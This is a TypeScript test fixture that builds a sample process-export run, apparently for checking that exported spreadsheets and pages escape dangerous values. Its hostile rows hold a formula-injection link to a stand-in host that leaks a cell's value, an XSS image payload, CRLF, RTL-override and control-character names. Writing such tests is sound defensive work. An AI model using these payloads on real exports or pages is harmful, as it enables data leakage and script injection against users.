import type { ExportProcess, RunExport } from './types';

/** Test data only: a small run with ordinary and hostile process rows. */

export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  crlf: 'evil\r\nname',
  rtlOverride: 'gnp.\u202Eexe.txt',
  html: '<img src=x onerror=alert(1)>',
  long: `long-${'A'.repeat(4096)}`,
  ooxmlEscape: '_x003D_1+1',
  control: 'bad\u0000\u0007name\uD800',
} as const;

function proc(overrides: Partial<ExportProcess> & Pick<ExportProcess, 'pid' | 'name'>): ExportProcess {
  return {
    ppid: 1,
    user: 'root',
    memoryPercent: 1,
    cpuPercent: 0,
    exe: '/usr/bin/true',
    exeStatus: 'ok',
    exeError: null,
    md5: 'd41d8cd98f00b204e9800998ecf8427e',
    sha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
    sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    ...overrides,
  };
}

export function makeRunExport(): RunExport {
  return {
    run: {
      id: 42,
      source: 'dashboard',
      status: 'completed',
      startedAt: new Date(Date.UTC(2024, 0, 2, 3, 4, 5, 678)),
      finishedAt: new Date(Date.UTC(2024, 0, 2, 3, 4, 9, 0)),
      error: null,
      minMemoryPercent: 0.5,
      totalProcesses: 310,
      processCount: 9,
      distinctExecutables: 7,
      durationMs: 3322,
    },
    host: {
      hostname: 'build-01.example',
      platform: 'linux',
      distro: 'Ubuntu',
      release: '24.04',
      kernel: '6.8.0-45-generic',
      arch: 'x64',
      totalMemoryBytes: 16_663_093_248,
      cpuModel: 'AMD EPYC 7B13',
      cpuCores: 8,
    },
    processes: [
      proc({
        pid: 1234,
        ppid: 1,
        name: 'postgres',
        user: 'postgres',
        memoryPercent: 12.34567,
        cpuPercent: 3.14159,
        exe: '/usr/lib/postgresql/16/bin/postgres',
      }),
      proc({ pid: 2001, name: HOSTILE.formula, memoryPercent: 5 }),
      proc({ pid: 2002, name: HOSTILE.crlf, user: '-evil', memoryPercent: 4 }),
      proc({ pid: 2003, name: HOSTILE.rtlOverride, exe: `/tmp/${HOSTILE.rtlOverride}` }),
      proc({ pid: 2004, name: HOSTILE.html, exe: '/tmp/a,"b".sh' }),
      proc({ pid: 2005, name: HOSTILE.long }),
      proc({ pid: 2006, name: HOSTILE.ooxmlEscape }),
      proc({ pid: 2007, name: HOSTILE.control, exeError: '@SUM(1)' }),
      proc({
        pid: 2,
        ppid: 0,
        name: 'kthreadd',
        memoryPercent: 0,
        exe: null,
        exeStatus: 'kernel-thread',
        md5: null,
        sha1: null,
        sha256: null,
      }),
    ],
  };
}
